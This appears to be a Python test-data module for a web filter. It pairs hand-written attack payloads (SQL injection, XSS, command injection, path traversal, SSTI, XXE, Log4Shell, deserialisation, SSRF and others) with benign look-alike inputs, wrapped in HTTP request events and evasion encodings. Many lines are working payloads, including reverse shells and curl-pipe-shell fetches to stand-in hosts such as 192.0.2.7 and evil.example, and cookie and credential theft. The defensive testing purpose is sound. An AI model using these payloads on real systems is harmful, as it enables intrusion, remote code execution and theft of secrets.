"""Attacks and ordinary traffic of our own, by class: written by hand, not taken from any set.
own_traffic_later.py has more that the rules were not chosen with.

Texts are placed where clients put them (query, forms, JSON, GraphQL, multipart, cookies, headers,
paths) and written the ways that get past filters."""
import base64
import json
import urllib.parse

ATTACKS = {
    "sqli": [
        "1' OR 2>1 -- ",
        "admin'--",
        "' or ''='",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "105 OR 1=1",
        "1 UNION SELECT username, password FROM accounts",
        "-1' UNION/**/SELECT/**/NULL,version(),NULL#",
        "1; DROP TABLE orders",
        "'; WAITFOR DELAY '0:0:7' --",
        "1 AND SLEEP(9)",
        "1) AND (SELECT 4711 FROM (SELECT(SLEEP(5)))a)-- -",
        "foo' || (SELECT pg_sleep(8)) || '",
        "1 AND extractvalue(rand(),concat(0x7e,(SELECT user())))",
        "' HAVING 1=1--",
        "1' ORDER BY 12-- -",
        "%' AND 6=6 AND '%'='",
        "name' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
        "1'; EXEC master..xp_cmdshell 'ping 192.0.2.7'--",
        "'||UTL_HTTP.REQUEST('http://192.0.2.7/'||(SELECT banner FROM v$version WHERE rownum=1))||'",
        "1' AND (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 'a' END FROM dual)='a",
        "id=1 RLIKE (SELECT (CASE WHEN (5=5) THEN 0x31 ELSE 0x28 END))",
        "1;INSERT INTO users(name,role) VALUES('eve','admin')",
        "1' INTO OUTFILE '/var/www/html/x.php' -- ",
        "uNiOn aLl sElEcT 1,2,cOnCaT(login,0x3a,pass) fRoM members",
        "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
    ],
    "xss": [
        "<script>fetch('//192.0.2.7/?'+document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=confirm`1`>",
        "<body onpageshow=prompt(9)>",
        "javascript:alert(document.domain)",
        "<iframe srcdoc=\"<script>parent.x()</script>\"></iframe>",
        "' onfocus=eval(name) autofocus x='",
        "<a href=\"jav&#x09;ascript:alert(1)\">go</a>",
        "<details open ontoggle=import('//192.0.2.7/a.js')>",
        "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
        "<input onpointerenter=top['al'+'ert'](1)>",
        "</title><script src=//192.0.2.7></script>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<xss style=animation-name:x onanimationstart=alert(1)>",
        "';window.location='https://192.0.2.7/?c='+document.cookie;//",
        "<form><button formaction=javascript:alert(1)>x",
        "<ScRiPt >aLeRt(1)</sCrIpT>",
        "<video><source onerror=\"fetch('/x')\">",
        "{{constructor.constructor('alert(1)')()}}",
        "<img src=`x` onerror=`alert(1)`>",
    ],
    "rce": [
        "127.0.0.1; cat /etc/passwd",
        "x | nc 192.0.2.7 4444 -e /bin/sh",
        "$(curl http://192.0.2.7/x.sh | sh)",
        "`wget -qO- 192.0.2.7/x`",
        "a && whoami",
        "; ls -la /home",
        "|| ping -c 3 192.0.2.7",
        "& net user eve pa55 /add",
        "() { :;}; /bin/bash -c 'id'",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "python3 -c 'import os;os.system(\"id\")'",
        "powershell -enc SQBFAFgA",
        "cmd.exe /c dir c:\\",
        ";${IFS}cat${IFS}/etc/hosts",
        "$(printf '\\151\\144')",
        "file.txt; rm -rf /tmp/*",
        "x\n/usr/bin/id\n",
        "'; system('uname -a'); '",
        "<?php system($_GET['c']); ?>",
        "__import__('os').popen('id').read()",
        "require('child_process').execSync('id')",
        "Runtime.getRuntime().exec(\"id\")",
        "|/bin/c?t /e*c/p?sswd",
        "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "....//....//....//etc/shadow",
        "..%2f..%2f..%2fetc%2fhosts",
        "file:///etc/group",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        "../../../../var/log/auth.log",
        "..%252f..%252fetc/passwd",
        "/var/www/../../etc/passwd%00.png",
        "C:\\boot.ini",
        "../.env",
        "/.git/config",
        "../../.aws/credentials",
        "..%c0%af..%c0%afetc/passwd",
        "../WEB-INF/web.xml",
        "/../../../../../../root/.ssh/id_rsa",
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{php}echo `id`;{/php}",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "*{T(java.lang.System).getenv()}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "@(1+2)@{System.Diagnostics.Process.Start(\"cmd\")}",
    ],
    "nosql": [
        {"user": {"$ne": None}, "pass": {"$ne": None}},
        {"user": "admin", "pass": {"$gt": ""}},
        {"user": {"$regex": "^a"}, "pass": "x"},
        {"$where": "this.password.length > 0"},
        {"user": {"$in": ["admin", "root"]}},
        "'; return true; var x='",
        "' || '1'=='1",
        "1; while(1) {}",
        "a'; this.password.match(/^a/) || 'a'=='b",
        {"filter": {"$or": [{}, {"a": "b"}]}},
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "<!DOCTYPE a [<!ENTITY % e SYSTEM \"http://192.0.2.7/e.dtd\">%e;]><a/>",
        "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
        "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>",
        "<?xml version='1.0'?><!DOCTYPE foo PUBLIC \"-//x//y\" \"http://192.0.2.7/x.dtd\"><foo/>",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(objectClass=*",
        "x)(|(password=*)",
        "admin*)((|userPassword=*)",
        "*)(mail=*))%00",
    ],
    "log4shell": [
        "${jndi:ldap://192.0.2.7/a}",
        "${${lower:j}ndi:${lower:l}dap://192.0.2.7/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.7:1099/o}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.example.net}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.7/a}",
    ],
    "deserialisation": [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmc=",
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "a:1:{i:0;O:7:\"Exploit\":1:{s:3:\"cmd\";s:2:\"id\";}}",
        "cos\nsystem\n(S'id'\ntR.",
        "!!python/object/apply:os.system [id]",
        "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\"}",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://192.0.2.7/\"]]]]",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://192.0.2.7/x\"}",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:8080/admin",
        "http://[::1]:22/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://2130706433/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "dict://127.0.0.1:11211/stats",
        "http://localhost:9001/2018-06-01/runtime/invocation/next",
        "http://169.254.170.2/v2/credentials",
        "http://0x7f000001/",
    ],
    "prototype": [
        {"__proto__": {"isAdmin": True}},
        {"constructor": {"prototype": {"isAdmin": True}}},
        {"a": {"__proto__": {"polluted": 1}}},
        "__proto__[isAdmin]=true",
        "constructor[prototype][isAdmin]=true",
        "a.__proto__.polluted",
    ],
    # Sentences and markup around them switch nothing off.
    "rce in prose": [
        "ああああああああああ;curl evil.example|sh",
        "ご注文ありがとうございます。 $(curl http://192.0.2.7/x | sh) よろしくお願いします。",
        "東京都千代田区丸の内の事務所|wget -qO- evil.example/x",
        "お問い合わせの件ですが、よろしくお願いいたします&&rm -rf /tmp/x",
        "这是一个非常普通的句子，没有什么特别的;cat /etc/passwd",
        "안녕하세요 주문한 물건이 아직 도착하지 않았습니다;nc 192.0.2.7 4444 -e /bin/sh",
        "Пожалуйста, передайте это моему старому другу; wget http://evil.example/a -O- | bash",
        "please give it to the old man ;curl evil.example|sh",
        "please give it to the old man who lives next door && curl -s https://evil.example/a | bash and thank you all",
        "Bitte geben Sie das dem alten Mann von nebenan; cat ../../etc/passwd",
        "Merci de bien vouloir le donner au vieil homme | nc -e /bin/sh 192.0.2.7 4444",
        "I would like to order two of them$(wget evil.example/x)",
        "please give it to the old man ;cat${IFS}/etc/passwd",
        "<a>please;curl evil.example|sh</a>",
        "please give it to the old man\ncurl evil.example|sh",
        "please give it to the old man;c\\url evil.example|sh",
        "please give it to the old man|tee /tmp/x",
        "ああああああああああ;echo x > /tmp/a",
        "please give it to the old man;dd if=/dev/zero of=/dev/sda",
        "<p>two of them</p>;wget -q http://192.0.2.7/x<p>thanks</p>",
        "<b>x</b>`curl evil.example|sh`<b>y</b>",
    ],
    "sqli in prose": [
        "ああああああああああ'; drop table users--",
        "東京都千代田区丸の内の事務所' or 1=1 -- ",
        "ご注文ありがとうございます' union select login, password from users --",
        "お問い合わせの件ですが、よろしく' and sleep(5) -- ",
        "这是一个非常普通的句子，没有什么特别的'; delete from users; --",
        "Пожалуйста, передайте это моему старому другу'; insert into users values ('eve','x') --",
        "please give it to the old man '; drop table users--",
        "please give it to the old man' or '1'='1",
        "please give it to the old man who lives next door') or 1=1#",
        "please give it to the old man' or true--",
        "ああああああああああ' order by 5--",
        "please give it to the old man' and (select 1 from dual)=1 -- ",
        "please give it to the old man', (select password from users))--",
        "Bitte geben Sie das dem alten Mann' union all select null,null,version() -- ",
        "Merci de bien vouloir le donner au vieil homme'; exec xp_cmdshell 'whoami' --",
        "I would like to order two of them, thanks'; update users set role='admin' where 1=1 --",
    ],
}

LEGITIMATE = {
    "names": ["O'Reilly", "Miles O'Brien", "D'Angelo & Sons", "Jean-Luc d'Orléans", "Anne-Marie \"Annie\" Select",
              "Union Jack", "Drop Table Games Ltd.", "Robert Null", "Ng'ang'a Kamau", "Dr. Or", "Select Comfort, Inc.",
              "François L'Écuyer", "岡田 太郎", "Łukasz Świątek", "Sean O’Casey", "Mr. And & Mrs. Or", "Tom -- the cat"],
    "prose": [
        "Please select the items from the list and order by price where possible.",
        "I'd like to update my address, and then delete the old account; thanks!",
        "The union of workers and the drop in sales were the table topics of the meeting.",
        "It's 5 > 3 and 2 < 4, isn't it?",
        "You can't have it both ways: either 'yes' or 'no' -- there is no other answer.",
        "Hello,\n\nwe are having trouble with the script that loads the page; it says \"alert\" twice.\n\nRegards\nAnn",
        "Insert coin into slot; press 1 or 2 = start.",
        "Does the cat sleep (10 hours or more)? Mine does!",
        "He said: \"select one; drop the other\". So we did.",
        "Where 1 = true and 0 = false, the table has 4 rows.",
        "Our window.location is at 5th & Main; ring twice -- or call.",
        "The echo of the bell; then ls and pwd are two commands to learn first.",
        "Create a user, grant access to the table and revoke it later.",
        "10% off on orders over $50 & free shipping (see terms #3)!",
        "Group by age, having fun: count(*) is what analysts say.",
        "My favourite movie? \"Rock'n'Roll High School\" -- or 'Grease'...",
        "See ../docs for more, or /etc for configuration in general.",
        "Use <b>bold</b> and <i>italic</i> in the editor, e.g. <p>Hello</p>.",
        "I ate 1/2 of it; or was it 3/4? #hungry",
        "exec summary: revenue up 5%, cost down; next: hire 2 people",
        "It was a quiet night; cat on my lap, I read the news on example.com until I fell asleep.",
        "We had fish & chips; set the table first, then ping me at ann@example.com when you are there.",
        "He asked 'tea' or 'coffee', and she took 'tea'; drop the rest into the bin, please.",
        "The union of readers; selected members and others from the list get a letter.",
        "Please take 'ann' or 'bob', whichever of them is older -- thanks; and tell me when it is done.",
    ],
    "code": [
        "```sql\nSELECT id, name FROM users WHERE id = 5;\n```\nWhy is this slow on a big table?",
        "In Python I wrote `import os; print(os.getcwd())` and got an error message that I don't understand.",
        "The function is:\n\n    function add(a, b) { return a + b; }\n\nand I call it with add(1, 2).",
        "git commit -m \"fix\" && git push",
        "Run `npm install` and then `npm start`; the server listens on http://localhost:3000 by default.",
        "My docker file has RUN apt-get update && apt-get install -y curl in it, is that fine for production use?",
        "for (let i = 0; i < 10; i++) { console.log(i); }",
        "<div class=\"card\"><h2>Title</h2><p>Some text</p></div>",
        "{\"name\": \"x\", \"scripts\": {\"test\": \"jest --coverage\"}}",
        "if (a && b || c) { x = y > 0 ? 1 : 2; }",
        "The regular expression ^[a-z]+(?:-[a-z]+)*$ matches slugs.",
        "h1 { color: red; } .card > p { margin: 0 auto; }",
        "Set the variable ${HOME} in your .bashrc, then restart the shell and try it again.",
        "C:\\Users\\ann\\Documents\\report.docx",
        "The template says {{ user.name }} but shows nothing to me.",
        "To list the files use `ls -la` or `cat README.md`, and `curl https://example.com` to see the page.",
        "コマンドは `ls -la` です。一覧を見たら `cat README.md` を実行してください。",
        "Use `ping example.com` to see whether the server is there; type exit to leave the shell.",
    ],
    "markdown": [
        "# Notes\n\n* one\n* two -- *important*\n\n> quoted 'text'\n\n[link](https://example.com/a?b=c&d=e#f)",
        "| a | b |\n| --- | --- |\n| 1 | `x = 1` |",
        "![picture](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
        "Some ~~old~~ **new** text; see [1]: http://example.com/page_(1)",
    ],
    "tokens": [
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "d2h5IG5vdD8gaXQgaXMganVzdCB0ZXh0",
        "550e8400-e29b-41d4-a716-446655440000",
        "AKxyz+/==", "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        "cGF5bWVudDo0MjQyNDI0MjQyNDI0MjQy", "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
        "GA1.2.1234567890.1234567890", "xoxb-123-456-abcDEF", "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=",
    ],
    "urls": [
        "https://shop.example.com/products?id=5&sort=price&order=desc#reviews",
        "https://example.com/login?next=%2Fhome%3Ftab%3D1",
        "http://example.com:8080/path;v=1.1/a,b?x=[1,2]",
        "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC",
        "https://www.google.com/search?q=select+from+where", "mailto:ann@example.com?subject=Hello&body=Hi",
        "https://user@example.com/~user/index.html", "ftp://ftp.example.org/pub/file.tar.gz",
        "https://example.com/a/../b/./c", "s3://bucket/folder/file name (1).txt",
    ],
    "search": [
        "c++ & c#", "price < 100", "\"exact phrase\" -excluded", "cats OR dogs", "(red or blue) and not green",
        "site:example.com filetype:pdf", "50% off", "what's new", "select box html", "how to drop a table in sql",
        "union square hotels", "order by mail", "like new iphone", "script fonts", "sleep(ing) problems", "1=1?",
        "rock & roll", "a=b", "5'11\" in cm", "'quoted'", "* wildcard*", "who am i", "cat food", "id card",
        "node.js require", "top 10", "if then else excel", "null pointer", "and/or", "24/7", "r&b", "ping pong",
    ],
    "japanese": [
        "東京都千代田区丸の内1-1-1", "「選択」または『削除』を選んでください。", "価格は1,000円～2,000円です（税込）",
        "こんにちは、世界！", "テーブルを予約したいです。2名、19:00から。", "ｓｅｌｅｃｔ（全角）の入力", "A社 & B社；第3四半期",
        "パスワードを忘れた場合は\"再設定\"を押す", "お問い合わせ：update の件 -- 至急",
    ],
    "data": [
        "2026-11-29T12:34:56.789+09:00", "+81 (3) 1234-5678", "ann+list@example.com", "-35.6895,139.6917", "#ff8800",
        "1e-10", "true", "null", "undefined", "NaN", "0x1F", "10.0.0.1", "2001:db8::1", "v1.2.3-beta+exp.sha.5114f85",
        "en-US,en;q=0.5", "a|b|c", "key1=value1;key2=value2", "[1,2,3]", "{\"a\":1}", "<>", "()", "%", "100%", "\\n", "$5.00",
        "width: 100px; height: 50%;", "M10 10 L 20 20 Z", "0 5 * * *", "/api/v1/users/5", "image/png", "*/*", "Q&A",
    ],
}


def _v2(method="GET", path="/search", query="", body=None, kind=None, headers=None, cookies=None, encoded=False):
    event = {"version": "2.0", "routeKey": "$default", "rawPath": path, "rawQueryString": query,
             "headers": {"host": "api.example.com", "accept": "*/*", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)",
                         **(headers or {})},
             "isBase64Encoded": encoded,
             "requestContext": {"domainName": "api.example.com", "http": {
                 "method": method, "path": path, "protocol": "HTTP/1.1", "sourceIp": "203.0.113.9"}}}
    if kind:
        event["headers"]["content-type"] = kind
    if body is not None:
        event["body"] = body
    if cookies:
        event["cookies"] = cookies
    return event


def _quote(text):
    return urllib.parse.quote(text, safe="")


def _graphql(text):
    return json.dumps({"query": "query Find($text: String!) { find(text: $text) { id name } }", "variables": {"text": text}})


def _multipart(text):
    return ("--frontier\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n" + text +
            "\r\n--frontier--\r\n")


PLACES = {
    "query": lambda text: _v2(query="page=2&q=" + _quote(text)),
    "form": lambda text: _v2("POST", body="a=1&text=" + urllib.parse.quote_plus(text), kind="application/x-www-form-urlencoded"),
    "json": lambda text: _v2("POST", body=json.dumps({"id": 5, "text": text}), kind="application/json"),
    "json-deep": lambda text: _v2("POST", body=json.dumps({"list": [{"a": {"b": [1, text]}}]}, ensure_ascii=False),
                                  kind="application/json; charset=utf-8"),
    "graphql": lambda text: _v2("POST", "/graphql", body=_graphql(text), kind="application/json"),
    "multipart": lambda text: _v2("POST", body=_multipart(text), kind="multipart/form-data; boundary=frontier"),
    "base64-body": lambda text: _v2("POST", body=base64.b64encode(json.dumps({"text": text}).encode()).decode(),
                                    kind="application/json", encoded=True),
    "cookie": lambda text: _v2(cookies=["session=abc", "prefs=" + _quote(text)]),
    "header": lambda text: _v2(headers={"x-custom": text.replace("\r", " ").replace("\n", " ")}),
    "path": lambda text: {**_v2(path="/items/" + text), "rawPath": "/items/" + text},
}
ORDINARY_PLACES = ("query", "form", "json", "json-deep", "graphql", "multipart", "base64-body")

WRITINGS = {
    "twice": lambda text: _quote(text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "unicode": lambda text: "".join(f"\\u{ord(c):04x}" if c in "'\"<>;|&${}(" else c for c in text),
    "entities": lambda text: "".join(f"&#x{ord(c):x};" if c in "'\"<>()" else c for c in text),
    "upper": lambda text: text.upper(),
    "fullwidth": lambda text: "".join(chr(ord(c) + 0xfee0) if c in "'\"<>;()=|" else c for c in text),
    "blanks": lambda text: text.replace(" ", "\t"),
    "comments": lambda text: text.replace(" ", "/**/"),
}
# What each class is worth trying as: a shell does not undo comments, XML no upper case of its words.
WRITTEN = {"sqli": ("twice", "base64", "unicode", "upper", "fullwidth", "blanks", "comments"),
           "xss": ("twice", "base64", "unicode", "entities", "upper", "fullwidth"),
           "rce": ("twice", "base64", "unicode", "blanks"), "lfi": ("twice", "base64"), "ssti": ("twice", "base64", "unicode"),
           "rce in prose": ("twice", "base64"), "sqli in prose": ("twice", "base64"),
           "ldap": ("twice", "base64"), "log4shell": ("twice", "base64", "unicode"), "deserialisation": ("twice",),
           "ssrf": ("twice", "base64"), "xxe": ("base64",)}


def _body(value, kind):
    return _v2("POST", body=value if isinstance(value, str) else json.dumps(value), kind=kind)


def attacks(of=None):
    """(class, place, writing, event), all of them."""
    for name, texts in (of or ATTACKS).items():
        for text in texts:
            if not isinstance(text, str):
                yield name, "json", "plain", _body(text, "application/json")
                continue
            if name == "xxe":
                for kind in ("application/xml", "text/xml; charset=utf-8", "application/soap+xml", "text/plain"):
                    yield name, kind, "plain", _body(text, kind)
            if name == "prototype" and "=" in text:
                yield name, "query", "plain", _v2(query=text)
                continue
            for place, put in PLACES.items():
                yield name, place, "plain", put(text)
            for writing in WRITTEN.get(name, ()):
                changed = WRITINGS[writing](text)
                if changed == text:
                    continue
                for place in ("query", "json", "form"):
                    yield name, place, writing, PLACES[place](changed)


def legitimate(of=None):
    for name, texts in (of or LEGITIMATE).items():
        for text in texts:
            for place in ORDINARY_PLACES:
                yield name, place, "plain", PLACES[place](text)
